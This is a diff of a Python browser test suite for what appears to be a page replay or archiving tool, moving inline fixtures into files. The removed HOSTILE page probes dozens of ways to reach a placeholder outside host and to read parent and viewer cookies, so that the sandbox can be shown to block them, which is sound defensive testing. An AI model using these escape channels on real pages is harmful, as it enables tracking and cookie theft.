@@ -20,6 +20,7 @@ from tests.unit.replay.lookup.recordings import material, recorded
 
 pytestmark = pytest.mark.browser
 
+PAGES = Path(__file__).parent / "hosts"
 ID = "1b4e28ba-2fa1-41d2-883f-0016d3cca427"
 LABEL = "1b4e28ba2fa1"
 OTHER_ID = "2b4e28ba-2fa1-41d2-883f-0016d3cca427"
@@ -33,64 +34,9 @@ CORS = (("Access-Control-Allow-Origin", NEWS), ("Access-Control-Allow-Credential
 WIDGET = f"window.widget = 'from {CDN}/x'.length > 30;".encode()
 SRI = "sha384-" + base64.b64encode(hashlib.sha384(WIDGET).digest()).decode()
 
-STORY = f"""<!DOCTYPE html>
-<html lang="en"><head class="kept"><meta charset="windows-1252"><title>Story</title>
-<meta http-equiv="Content-Security-Policy" content="script-src *.news.example">
-<link rel="stylesheet" href="{CDN}/site.css">
-<script type="importmap">{{"imports": {{"dep": "{CDN}/dep.js"}}}}</script>
-<script>said = new Promise((o) => addEventListener("message", (e) => o([e.data.hello, e.origin])))</script>
-<script src="//cdn.example/widget.js" integrity="{SRI}" crossorigin></script>
-<script src="{CDN}/other.js" integrity="{SRI}" crossorigin></script>
-</head><body><p id="words">See {CDN}/site.css – caf\u00e9</p>
-<img id="a" src="{CDN}/a.png"><img id="moved" src="/moved.png">
-<iframe src="{API}/frame.html"></iframe>
-<script type="module" src="/main.js"></script>
-</body></html>
-""".encode("cp1252")
+STORY = (PAGES / "story.html").read_text().replace("PINNED", SRI).encode("cp1252")
 
-MAIN = """
-import { dep } from "dep";
-const R = {};
-const check = async (name, what) => {
-  try {
-    R[name] = await Promise.race([what(), new Promise((_, no) => setTimeout(() => no("late"), 8000))]);
-  } catch (e) { R[name] = "ERROR " + e; }
-};
-const loaded = (img) => img.complete ? img.naturalWidth : new Promise((o) => { img.onload = () => o(img.naturalWidth); img.onerror = () => o("failed"); });
-if (document.readyState !== "complete") await new Promise((o) => addEventListener("load", o));
-await check("module", () => dep);
-await check("dynamic", async () => (await import("https://cdn.example/dep.js")).dep);
-await check("href", () => location.href);
-await check("cors", async () => (await (await fetch("https://api.news.example/data.json", { credentials: "include" })).json()).self);
-await check("no cors", () => fetch("https://api.news.example/closed.json").then(() => "read", () => "refused"));
-await check("post", async () => (await (await fetch("https://api.news.example/echo", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ page: location.href }) })).text()));
-await check("query", async () => (await (await fetch("https://api.news.example/count?u=" + encodeURIComponent(location.href), { credentials: "include" })).text()));
-await check("cookie", () => document.cookie);
-await check("image", () => loaded(document.getElementById("a")));
-await check("redirected image", () => loaded(document.getElementById("moved")));
-await check("style", () => getComputedStyle(document.getElementById("words")).color);
-await check("words", () => document.getElementById("words").textContent);
-await check("charset", () => document.characterSet);
-await check("mode", () => document.compatMode);
-await check("head", () => document.head.className + document.scripts.length);
-await check("pinned", () => window.widget);
-await check("wrongly pinned", () => window.other === undefined);
-await check("frame", () => window.said);
-await check("frame closed", () => { try { return frames[0].document.title; } catch (e) { return e.name; } });
-await check("parent closed", () => { try { return parent.document.title; } catch (e) { return e.name; } });
-await check("store", () => { localStorage.a = "1"; return localStorage.a; });
-await check("worker", () => new Promise((o, no) => { const w = new Worker("/worker.js"); w.onmessage = (e) => o(e.data); w.onerror = () => no("worker"); }));
-await check("socket", () => new Promise((o, no) => { const w = new WebSocket("wss://api.news.example/live"); const got = []; w.onmessage = (e) => { got.push(e.data); w.send("thanks"); if (got.length === 2) o(got); }; w.onerror = () => no("socket"); }));
-await check("events", () => new Promise((o, no) => { const s = new EventSource("/events"); s.onmessage = (e) => o(e.data); s.onerror = () => no("closed"); }));
-await check("range", async () => { const r = await fetch("/film.bin", { headers: { Range: "bytes=2-5" } }); return [r.status, await r.text()]; });
-await check("twin", async () => (await (await fetch("http://plain.example:8080/x.txt")).text()));
-await check("missed", async () => (await fetch("/nothing")).status);
-await check("unanswered", () => fetch("/unanswered").then((r) => r.status, (e) => e.name));
-await check("secure", () => isSecureContext);
-await check("rtc", () => { try { new RTCPeerConnection(); return "open"; } catch (e) { return e.name; } });
-await check("service worker", () => navigator.serviceWorker.register("/sw.js").then(() => "registered", () => "refused"));
-parent.postMessage(JSON.stringify(R), "*");
-"""
+MAIN = (PAGES / "main.js").read_text()
 
 
 def page_material():
@@ -236,65 +182,7 @@ async def test_a_page_over_three_hosts(open_in):
         assert "GET https://www.news.example/nothing" in tally.misses
 
 
-HOSTILE = """<!doctype html><title>hostile</title>
-<iframe srcdoc="<meta http-equiv=refresh content='0; url=http://LIVE/refresh'>"></iframe>
-<link rel="preconnect" href="http://LIVE/"><link rel="dns-prefetch" href="//LIVE/"><link rel="prefetch" href="http://LIVE/prefetch">
-<link rel="preload" as="image" href="http://LIVE/preload"><link rel="modulepreload" href="http://LIVE/modulepreload">
-<link rel="icon" href="http://LIVE/icon"><link rel="manifest" href="http://LIVE/manifest"><link rel="stylesheet" href="http://LIVE/sheet">
-<style>@import "http://LIVE/import"; @font-face { font-family: f; src: url(http://LIVE/font) } body { font-family: f; background: url(http://LIVE/background) }</style>
-<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://LIVE/speculated"], "eagerness": "immediate"}]}</script>
-<img src="http://LIVE/img"><img srcset="http://LIVE/srcset 1x"><video src="http://LIVE/video" poster="http://LIVE/poster"></video><audio src="http://LIVE/audio"></audio>
-<object data="http://LIVE/object"></object><embed src="http://LIVE/embed"><iframe src="http://LIVE/iframe"></iframe><svg><image href="http://LIVE/svg"/><use href="http://LIVE/use#a"/></svg>
-<iframe srcdoc="<img src='http://LIVE/srcdoc'><script>try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:LIVE'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) } catch (e) {}</script>"></iframe>
-<iframe src="/inner.html"></iframe>
-<script>
-const L = "http://LIVE/", R = {};
-const attempt = async (name, what) => { try { R[name] = String(await Promise.race([what(), new Promise((o) => setTimeout(() => o("late"), 700))])); } catch (e) { R[name] = "refused " + e.name; } };
-const stun = (view) => { const p = new view.RTCPeerConnection({ iceServers: [{ urls: "stun:LIVE" }] }); p.createDataChannel("x"); return p.createOffer().then((o) => p.setLocalDescription(o)); };
-const element = (name, fields) => { const e = document.createElement(name); Object.assign(e, fields); document.body.append(e); return e; };
-const worker = (code) => new Worker(URL.createObjectURL(new Blob([code])));
-(async () => {
-  await attempt("fetch", () => fetch(L + "fetch", { mode: "no-cors" }));
-  await attempt("keepalive", () => fetch(L + "keepalive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }));
-  await attempt("xhr", () => new Promise((o, no) => { const x = new XMLHttpRequest(); x.onload = o; x.onerror = no; x.open("GET", L + "xhr"); x.send(); }));
-  await attempt("beacon", () => navigator.sendBeacon(L + "beacon", "x"));
-  await attempt("socket", () => new Promise((o, no) => { const w = new WebSocket("ws://LIVE/ws"); w.onopen = o; w.onerror = no; }));
-  await attempt("events", () => new Promise((o, no) => { const s = new EventSource(L + "events"); s.onopen = o; s.onerror = no; }));
-  await attempt("transport", () => new WebTransport("https://LIVE/").ready);
-  await attempt("form", () => element("form", { action: L + "form", method: "post" }).submit());
-  await attempt("form to a window", () => element("form", { action: L + "form2", method: "post", target: "elsewhere" }).submit());
-  await attempt("window", () => open(L + "window"));
-  await attempt("noopener", () => open(L + "noopener", "_blank", "noopener"));
-  await attempt("ping", () => { const a = element("a", { href: "#x", ping: L + "ping" }); a.click(); });
-  await attempt("link", () => { const a = element("a", { href: L + "blank", target: "_blank" }); a.click(); });
-  await attempt("top", () => { top.location = L + "top"; });
-  await attempt("parent", () => parent.document.title);
-  await attempt("parent's cookie", () => parent.document.cookie);
-  await attempt("worker", () => worker(`fetch("${L}worker", { mode: "no-cors" }).catch(() => 0); try { importScripts("${L}importscripts") } catch (e) {}`));
-  await attempt("data worker", () => new Worker(`data:text/javascript,fetch("${L}dataworker", { mode: "no-cors" })`));
-  await attempt("import", () => import(L + "import.js"));
-  await attempt("script", () => element("script", { src: L + "script" }));
-  await attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
-  await attempt("frame's script", () => { const f = element("iframe", {}); f.contentDocument.write(`<img src="${L}written">`); });
-  await attempt("blob document", () => { element("iframe", { src: URL.createObjectURL(new Blob([`<img src="${L}blob">`], { type: "text/html" })) }); });
-  await attempt("data document", () => { element("iframe", { src: `data:text/html,<img src="${L}data">` }); });
-  await attempt("javascript document", () => { element("iframe", { src: `javascript:'<img src="${L}javascript">'` }); });
-  await attempt("preconnect", () => { document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: L })); });
-  await attempt("markup", () => { document.body.insertAdjacentHTML("beforeend", `<iframe src="${L}markup"></iframe>`); });
-  await attempt("style", () => { document.body.style.cursor = `url(${L}cursor), auto`; });
-  await attempt("track", () => { document.querySelector("video").append(Object.assign(document.createElement("track"), { src: L + "track", default: true })); });
-  await attempt("rtc", () => stun(window));
-  await attempt("rtc of a frame", () => stun(element("iframe", {}).contentWindow));
-  await attempt("rtc of a constructor", () => { const p = Object.create(RTCPeerConnection.prototype); return new p.constructor({ iceServers: [{ urls: "stun:LIVE" }] }); });
-  await attempt("viewer's cookie", () => fetch(`http://${ROOM}/`, { credentials: "include" }).then((r) => r.text()));
-  await attempt("another snapshot", () => fetch(`http://www.news.example.${OTHER}/`).then((r) => r.text()));
-  await attempt("viewer's frame", () => new Promise((o) => { const f = element("iframe", { src: `http://${ROOM}/` }); setTimeout(() => { try { o(f.contentDocument.title) } catch (e) { o("closed") } }, 500); }));
-  parent.postMessage(JSON.stringify(R), "*");
-  await attempt("download", () => { const a = element("a", { href: L + "download", download: "x" }); a.click(); });
-  await attempt("self", () => { location = L + "self"; });
-})();
-</script>
-"""
+HOSTILE = (PAGES / "hostile.html").read_text()
 
 
 async def test_nothing_leaves(open_in):
@@ -304,8 +192,9 @@ async def test_nothing_leaves(open_in):
 
         def hostile(port: int):
             page = HOSTILE.replace("LIVE", live)
-            room = f'<script>const ROOM = "{LABEL}.localhost:{port}", OTHER = "2b4e28ba2fa1.localhost:{port}"</script>'
-            inner = "<script>try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:LIVE'}]}); p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) } catch (e) {} fetch('http://LIVE/inner', {mode: 'no-cors'})</script>"
+            names = f'ROOM = "{LABEL}.localhost:{port}", OTHER = "2b4e28ba2fa1.localhost:{port}"'
+            room = f"<script>const {names}</script>"
+            inner = (PAGES / "inner.html").read_text()
             fields = (("Content-Type", HTML), ("Link", f"<http://{live}/>; rel=preconnect"))
             return replace(
                 material(
